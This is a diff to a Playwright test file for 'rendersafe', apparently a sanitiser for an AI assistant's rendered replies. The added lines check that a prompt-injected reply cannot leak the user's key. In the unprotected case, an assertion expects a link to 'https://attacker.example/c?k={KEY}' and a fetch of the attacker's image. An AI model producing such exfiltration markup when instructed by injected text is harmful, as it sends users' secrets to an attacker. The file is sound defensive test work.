@@ -1,6 +1,8 @@
 """The demo page in a real headless Chromium (Debian's, driven by Playwright): while it
 renders the prompt-injected reply through rendersafe, the page requests nothing from
-any host but 127.0.0.1; without rendersafe, it requests the attacker's image."""
+any host but 127.0.0.1, and the link that carries the user's key raw (known only from
+the conversation the page sent) is gone; without rendersafe, it requests the attacker's
+image and shows the key in a link."""
 
 from __future__ import annotations
 
@@ -13,6 +15,7 @@ import pytest
 from playwright.sync_api import Browser, sync_playwright
 
 from rendersafe.demo import build_demo
+from rendersafe.demo.replies import KEY
 from servers import Server
 
 CHROMIUM = Path("/usr/bin/chromium")
@@ -72,12 +75,16 @@ def test_attack_through_rendersafe_fetches_nothing_remote(browser: Browser, demo
     assert "image removed" in reply
     assert "image_host_not_allowed" in audit
     assert "attacker.example/{" in audit  # redacted: values replaced by their length
+    assert KEY not in reply  # the raw key, caught because the request carried it
+    assert "conversation_data" in audit
+    assert KEY not in audit
 
 
 def test_attack_without_rendersafe_fetches_the_attacker(browser: Browser, demo: Server) -> None:
     requested, reply, _ = run_scenario(browser, demo.url, "#attack", bypass=True)
     assert "attacker.example" in hosts(requested)  # the leak rendersafe prevents
     assert "<img" in reply
+    assert f'href="https://attacker.example/c?k={KEY}"' in reply
 
 
 def test_honest_reply_renders_whole(browser: Browser, demo: Server) -> None:
